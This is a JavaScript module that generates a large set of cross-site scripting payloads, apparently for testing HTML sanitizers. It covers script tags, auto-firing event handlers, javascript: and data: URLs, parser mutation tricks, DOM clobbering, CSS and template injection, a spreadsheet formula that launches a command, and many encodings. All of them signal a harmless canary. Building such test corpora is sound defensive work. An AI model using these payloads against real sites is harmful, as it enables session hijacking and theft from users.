/**
 * Strings that try to become more than text, made from the kinds that sanitizers are tested with: scripts, handlers,
 * addresses, markup that is read differently the second time, names that hide what a page asks for, styles, ways out of
 * a place where text stands, templates, encodings. What one of them brings about can be told: it calls `canary`, opens a
 * dialog, or asks `canary.invalid` for something.
 */
const call = 'canary(1)';
const host = '//canary.invalid';
const image = `<img src=x onerror=${call}>`;
const packed = Buffer.from(`<script>parent.${call};${call}</script>`).toString('base64');

/** Every way of choosing one of each list. */
const product = ([first, ...others]) =>
  first ? first.flatMap((one) => product(others).map((rest) => [one, ...rest])) : [[]];
const madeOf = (lists, of) => product(lists).map((choice) => of(...choice));
const hex = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');
const decimal = (text) => [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
const escaped = (text) => text.replace(/[<>]/g, (c) => (c === '<' ? '&lt;' : '&gt;'));

const scripts = [
  ...madeOf(
    [
      ['<script>', '<ScRiPt >', '<script/x>', '<script\t>', '<script type=module>', '<script\n\n>', '<script\0>'],
      [`${call}`, `alert(1)`, `/*<!--*/${call}//`, `<!--\n${call}\n//-->`, `//<![CDATA[\n${call}\n//]]>`],
      ['</script>', '</script >', '</SCRIPT/x>', ''],
    ],
    (open, code, close) => open + code + close,
  ),
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>{"a":"</script><script>${call}</script>"}</script>`,
  ...[`${host}/x.js`, `https:${host}/x.js`, `data:text/javascript,${call}`, `data:;base64,${packed}`].flatMap((src) => [
    `<script src=${src}></script>`,
    `<script async defer src="${src}" `,
    `<svg><script href="${src}"></script></svg>`,
    `<svg><script xlink:href="${src}"/></svg>`,
    `<link rel=modulepreload href="${src}">`,
  ]),
  `<script type=importmap>{"imports":{"x":"data:text/javascript,${call}"}}</script><script type=module>import "x"</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https:${host}/"]}]}</script>`,
  `<svg><script>${hex(call)}</script></svg>`,
  `<svg><style></svg><script>${call}</script>`,
  `<template><script>${call}</script></template>`,
  `<x is=script>${call}</x>`,
];

/** Elements with the handler that needs nobody to act, and what else brings it about. */
const handlers = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'],
  ['image', 'onerror', 'src=x'],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['html', 'onfocus', 'autofocus tabindex=1'],
  ['input', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['button', 'onfocus', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['video', 'onerror', 'src=x'],
  ['video', 'onloadstart', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['iframe', 'onload', ''],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['style', 'onload', ''],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['marquee', 'onstart', ''],
  ['script', 'onerror', 'src=x'],
  ['track', 'onerror', 'default src=x'],
  ['input', 'onerror', 'type=image src=x'],
  ['div', 'onanimationstart', 'style="animation:x 1s"'],
  ['div', 'onfocusin', 'tabindex=1 autofocus'],
  ['div', 'onbeforetoggle', 'popover'],
  ['dialog', 'oncancel', 'open'],
  ['a', 'onclick', 'href=#x'],
  ['p', 'onmouseover', ''],
  ['p', 'onpointerrawupdate', ''],
  ['xss', 'onscrollend', 'style="display:block;overflow:auto"'],
];
const events = [
  ...handlers.map(([tag, name, others]) => `<${tag} ${others} ${name}=${call}>`),
  ...handlers.map(([tag, name, others]) => `<${tag.toUpperCase()}/${others.replace(/ /g, '/')}/${name}="${call}"//>`),
  ...handlers.map(([tag, name, others]) => `"'><${tag}\n${others}\t${name}\f=\r'${hex(call)}'`),
  ...handlers.map(([tag, name, others]) => `<${tag} ${others} ${name}=${decimal(call)} x`),
  ...madeOf(
    [
      [
        '<img src=x',
        '<img/src=x',
        '<img src=`x`',
        '<img src="x"',
        '<img src=x:x',
        '<img alt=">" src=x',
        '<img src=x\0',
      ],
      [' ', '/', '\t', '\n', '\f', ' x="', " x='", ' \u2028', ' on=', '\u000b'],
      [`onerror=${call}>`, `ONERROR = "alert(1)">`, `onerror='${call}'`, `onerror=\`${call}\`>`],
    ],
    (open, gap, rest) => open + gap + rest,
  ).filter((_, i) => i % 3 === 0),
  ...['begin', 'end', 'repeat'].flatMap((when) => [
    `<svg><animate on${when}=${call} attributeName=x dur=1s repeatCount=2>`,
    `<svg><set on${when}=${call} attributeName=x dur=1ms>`,
    `<svg><animateTransform on${when}=${call} attributeName=transform dur=1ms>`,
  ]),
  `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a>`,
  `<svg><use href="data:image/svg+xml;base64,${packed}#x">`,
  `<svg><foreignObject><iframe onload=${call}>`,
];

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java&Tab;script&colon;${call}`,
  `&#1;javascript:${call}`,
  `\u0001\u001fjavascript:${call}`,
  `javascript://%0a${call}`,
  `javascript:/*--></title></style></textarea>*/${call}`,
  `${hex('javascript:')}${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:text/html;base64,${packed}`,
  `data:image/svg+xml;base64,${packed}`,
  `${host}/x`,
];
const holders = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href="${url}" autofocus onfocus=this.click()>x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><input type=submit autofocus>`,
  (url) => `<button form=x formaction="${url}">x</button><form id=x></form>`,
  (url) => `<object data="${url}">`,
  (url) => `<embed src="${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0; url=${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `<img src="${url}" srcset="${url} 2x">`,
  (url) => `<map><area href="${url}" shape=default></map>`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<link rel="stylesheet icon prefetch preload dns-prefetch" as=script href="${url}">`,
  (url) => `[x](${url})`,
  (url) => `![x](${url})`,
  (url) => url,
];
const addresses = madeOf([holders, schemes], (holder, scheme) => holder(scheme)).filter((_, i) => i % 2 === 0);

const framed = `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`;
const frames = [
  framed,
  framed.replaceAll('<script>', '&lt;script&gt;'),
  `<frameset onload=${call}><frame src="javascript:${call}">`,
];

/** What is harmless where it is first read and acts once it was written out and is read again. */
const hidden = `<img title="--&gt;&lt;/style&gt;&lt;/title&gt;&lt;img src=x onerror=${call}&gt;" alt="--></style></title></noscript></textarea>${escaped(image)}">`;
const twice = [
  ...madeOf(
    [
      [
        '<math><mtext>',
        '<math><mi>',
        '<math><annotation-xml encoding="text/html">',
        '<svg><foreignObject>',
        '<svg><desc>',
        '<svg><title>',
        '<svg></p>',
        '<table><math>',
      ],
      [
        '<style>',
        '<title>',
        '<textarea>',
        '<noscript>',
        '<xmp>',
        '<mglyph><style>',
        '<!--',
        '<table><mglyph><style><!--</style>',
      ],
      [`</style>${image}`, `<a id="</style>${image}">`, hidden, `--><img title="-->${escaped(image)}">`],
    ],
    (outer, raw, rest) => outer + raw + rest,
  ).filter((_, i) => i % 2 === 0),
  ...[
    'noscript',
    'xmp',
    'noembed',
    'noframes',
    'listing',
    'plaintext',
    'template',
    'iframe',
    'title',
    'textarea',
    'select',
    'option',
  ].flatMap((raw) => [
    `<${raw}><p title="</${raw}>${image}">`,
    `<${raw}>${escaped(image)}</${raw}>`,
    `</${raw}>${image}`,
  ]),
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<p><table><tr><p>${image}</table>`,
  `<a><b></a></b><table><a>${image}`,
  `<div>${'<b>'.repeat(40)}${image}`,
  `<template shadowrootmode=open>${image}</template>`,
  `<select><template><style></select>${image}`,
];

const comments = [
  '<!--x--!>',
  '<!-->',
  '<!--->',
  '<!--[if gte IE 4]>',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '<?',
  '<!x',
  '<!DOCTYPE x [<!ENTITY y "<z/>">]>',
  ']]>',
  '-->',
  '<%',
  '</ x>',
  '<!-- `-->',
].flatMap((start) => [start + image, `${start}<script>${call}</script>-->`]);

const names = [
  'body',
  'forms',
  'getElementById',
  'querySelector',
  'createElement',
  'currentScript',
  'location',
  'trustedTypes',
  'canary',
  'attributes',
  'parentNode',
  'nodeName',
  'textContent',
  '__proto__',
  'constructor',
  'box',
  'main',
  'claim-1',
  'findings-heading',
  'LAID_OUT',
];
const clobbering = names.flatMap((name) => [
  `<img name=${name}><form id=${name}><input name=${name}></form>`,
  `<a id=${name}></a><a id=${name} name=src href="javascript:${call}">x</a>`,
  `<iframe name=${name} srcdoc="<a id=${name}>">`,
]);

const styles = [
  ...[
    'background:url(//canary.invalid/x)',
    `behavior:url(#default#time2)`,
    `width:expression(${call})`,
    '-moz-binding:url(//canary.invalid/x)',
    `background:url("javascript:${call}")`,
    'position:fixed;inset:0;z-index:9999',
    'animation:x 1s',
    '--x:url(//canary.invalid/x);background:var(--x)',
  ].flatMap((rule) => [
    `<p style='${rule}'>x`,
    `<style>*{${rule}}</style>`,
    `</style><style>@media all{*{${rule}}`,
    `;${rule};}`,
  ]),
  `<style>@import "${host}/x.css"</style>`,
  `<style>@font-face{font-family:x;src:url(${host}/x)}*{font-family:x}</style>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${host}/x)}">`,
];

const waysOut = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</p>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</option></select>',
  '</a>',
  '-->',
  ']]>',
  '*/',
  '\\',
  '"}]}',
  '\\u0022',
  '%22%3e',
].flatMap((out) => [out + image, `${out} autofocus onfocus=${call} x=${out}`, `${out};${call}//`]);

const inScript = `constructor.constructor('${call}')()`;
const templates = [
  `{{${inScript}}}`,
  `{{{${inScript}}}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[${call}]]`,
  `{%${call}%}`,
  `<x ng-app>{{${inScript}}}`,
  `<x v-html="'${image}'">`,
  `<x x-init="${call}">`,
  `<x hx-on:load="${call}">`,
  `<x data-bind="html:'${image}'">`,
  `<x {...{dangerouslySetInnerHTML:{__html:'${image}'}}}>`,
  `=cmd|'/c calc'!A0`,
  `{"__proto__":{"onload":"${call}","innerHTML":"${image}"}}`,
  `constructor[prototype][innerHTML]=${image}`,
  `@import url(${host}/x)`,
  `$&$\`$'${image}`,
];

const shapes = [
  image,
  `<script>${call}</script>`,
  `<svg onload=${call}>`,
  `<a href=javascript:${call}>x</a>`,
  `<iframe src=javascript:parent.${call}>`,
];
const codings = [
  escaped,
  (text) => escaped(text).replaceAll('&', '&amp;'),
  hex,
  decimal,
  (text) => encodeURIComponent(text),
  (text) => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  (text) => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join(''),
  (text) => text.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('o', 'o\u0000'),
  (text) => text.replaceAll('<', '<\u200b').replaceAll('i', 'i\u200d'),
  (text) => `\u202e${[...text].reverse().join('')}\u202c${text}`,
  (text) => `\ufeff${text}\u2028${text}\u2029`,
  (text) => text.replaceAll('i', '\u0130').toUpperCase(),
  (text) => `\ud800${text}\udc00`,
  (text) => `${'😀'.repeat(9)}${text}\u0301`,
];
const encodings = madeOf([codings, shapes], (coding, shape) => coding(shape));

const kinds = {
  scripts,
  events,
  addresses,
  frames,
  twice,
  comments,
  clobbering,
  styles,
  waysOut,
  templates,
  encodings,
};

/** @type {{kind: string, text: string}[]}  each text once */
export const payloads = [
  ...new Map(Object.entries(kinds).flatMap(([kind, texts]) => texts.map((text) => [text, { kind, text }]))).values(),
];
